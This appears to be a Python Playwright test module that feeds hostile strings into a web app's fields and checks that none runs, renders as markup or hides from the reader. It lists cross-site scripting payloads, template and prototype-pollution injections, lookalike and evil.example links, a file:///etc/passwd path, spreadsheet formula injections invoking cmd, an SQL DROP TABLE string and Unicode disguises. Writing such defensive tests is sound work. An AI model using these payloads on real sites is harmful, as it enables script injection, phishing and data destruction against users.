"""What a stranger may write into a field, to have it run, be obeyed or be taken for ours."""

from __future__ import annotations

from collections.abc import Sequence

from playwright.sync_api import Page

#: Set by a payload that runs; nothing else sets it.
MARK = "__ran"

_RUN = f"window.{MARK}=1"

MARKUP = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src=//evil.example/x.js></script><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}">',
    f"<img src=`x` onerror={_RUN}>",
    f"<img/src/onerror={_RUN}>",
    "<img src=http://evil.example/pixel.gif>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text y=20>click</text></a></svg>',
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{MARK}=1</script>'></foreignObject></svg>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<iframe src=javascript:parent.{MARK}=1></iframe>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=javascript:{_RUN}>",
    f"<form action=javascript:{_RUN}><button>Vote for</button></form>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_RUN}></style></mglyph></math>",
    f"<template><script>{_RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" onmouseover="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}' x='",
    f"<a href=javascript:{_RUN}>Accept</a>",
    f"<marquee onstart={_RUN}>",
    "<style>@import'//evil.example/x.css';*{background:url(//evil.example/y)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
)

TEMPLATES = (
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"#{{{_RUN}}}",
    f"<%= {_RUN} %>",
    f"[[{_RUN}]]",
    f"{{%{_RUN}%}}",
    '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"x":1}}}',
    "__proto__",
    "constructor",
)

LINKS = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript://example.org/%0a{_RUN}",
    f"data:text/html,<script>opener.{MARK}=1</script>",
    "data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19yYW49MTwvc2NyaXB0Pg==",
    f"vbscript:{_RUN}",
    "file:///etc/passwd",
    "blob:http://127.0.0.1/x",
    "//evil.example/terms",
    "https://example.org@evil.example/terms",
    "https://xn--pple-43d.com/terms",
    "https://\u0430pple.com/terms",
    "ipfs://../../evil",
    "http://127.0.0.1:8545/",
)

DISGUISES = (
    "\u202eeliforp gnitov\u202c",  # right-to-left override
    "Pay \u202e0001\u202c ETH",
    "\u2066\u2067\u2068isolates\u2069\u2069\u2069",
    "\u200e\u200f\u061cmarks",
    "North\u200bwind Ship\u200cping\u200d",  # nothing one could see
    "\ufeffNorthwind",
    "Nor\u00adthwind",
    "N\u043erthwind Shipping",  # a Cyrillic o
    "\uff2e\uff4f\uff52\uff54\uff48\uff57\uff49\uff4e\uff44",  # full width
    "\U0001d40d\U0001d428rthwind",  # mathematical bold
    "Z\u0351\u036b\u0343\u036aa\u0310\u0300\u0301l\u0334\u0335g\u0336o\u0321",
    "line\nbreak\r\nand\u2028another\u2029one",
    "\x00null\x00",
    "\x1b[31mred\x1b[0m",
    "\x07\x08\x7f\x85",
    "\U000e0041\U000e0042tags",
    "\u0627\u0644\u0634\u0631\u0627\u0643\u0629 \u05e9\u05d5\u05ea\u05e4\u05d5\u05ea",  # in good faith
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea",
    "x" * 2_000,
    "W" * 200 + " " + "\u0bf5" * 100,
    "          ",
    "0x" + "0" * 40,
    '=HYPERLINK("http://evil.example","click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'; DROP TABLE partners; --",
    "Success! Your vote was counted. Now sign the next message.",
    "undefined",
    "null",
    "NaN",
    "[object Object]",
)

#: Bytes that are no UTF-8: what a contract may answer where a string is due.
BROKEN_BYTES = (
    b"\xff\xfe\xfd",
    b"\xc3\x28",
    b"\xe2\x28\xa1",
    b"\xf0\x28\x8c\x28",
    b"\xed\xa0\x80",  # half of a pair
    b"\xc0\xafetc",  # longer than it need be
    b"Northwind\x80",
    b"\xf4\x90\x80\x80",
)

TEXTS: Sequence[str] = (*MARKUP, *TEMPLATES, *LINKS, *DISGUISES)

#: What is never in the page as it stands, because a reader could not see it: it is to be shown as what it is.
UNSEEN = tuple(
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200e\u200f\u061c\ufeff\u00ad\x00\x1b\x07\x08\x7f\x85"
)


def check_unharmed(page: Page, *given: str) -> None:
    """Nothing that was given ran, became an element or a link, or hides from the reader."""
    assert page.evaluate(f"window.{MARK}") is None, "a payload ran"
    inside: dict[str, list[str]] = page.evaluate(
        """() => {
            const all = [...document.querySelectorAll('*')];
            const schemes = /^(https?|ipfs|mailto|blob):|^[#./]|^$|^data:text\\/calendar/i;
            return {
                strangers: all.filter(({ localName }) => /^(iframe|object|embed|base|marquee|math)$/i.test(localName)
                    || /^(foreignobject|video|audio|animate)$/i.test(localName))
                    .map((each) => each.outerHTML.slice(0, 120)),
                handlers: all.flatMap((each) => [...each.attributes].filter(({ name }) => /^on/i.test(name))
                    .map(({ name }) => `${each.localName} ${name}`)),
                links: all
                    .flatMap((each) => ['href', 'src', 'action', 'xlink:href'].map((key) => each.getAttribute(key)))
                    .filter((each) => each !== null && !schemes.test(each.trim()) && /^[a-z\\x00-\\x20]*:/i.test(each)
                        && !each.startsWith('data:image/')),
            };
        }"""
    )
    assert not any(inside.values()), inside
    shown = page.locator("body").inner_text() + page.title()
    hidden = {f"U+{ord(sign):04X}" for sign in UNSEEN if sign in shown}
    assert not hidden, f"the page has {sorted(hidden)} as they are"
